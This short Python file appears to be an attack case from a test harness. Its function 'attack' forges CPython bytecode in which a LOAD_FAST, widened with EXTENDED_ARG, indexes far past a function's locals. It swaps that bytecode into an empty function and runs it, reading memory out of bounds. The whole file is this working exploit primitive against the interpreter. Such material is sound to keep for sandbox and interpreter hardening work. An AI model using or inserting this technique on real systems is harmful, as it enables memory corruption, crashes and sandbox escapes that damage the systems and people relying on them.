"""Runs bytecode that no compiler makes, which reads and writes where it should not."""


def attack(context):
    def empty():
        pass

    code = empty.__code__
    # LOAD_FAST far beyond the locals, of which CPython checks nothing.
    forged = bytes([144, 255, 144, 255, 124, 255, 83, 0])
    empty.__code__ = code.replace(co_code=bytes([151, 0]) + forged, co_stacksize=1)
    return len(repr(empty()))
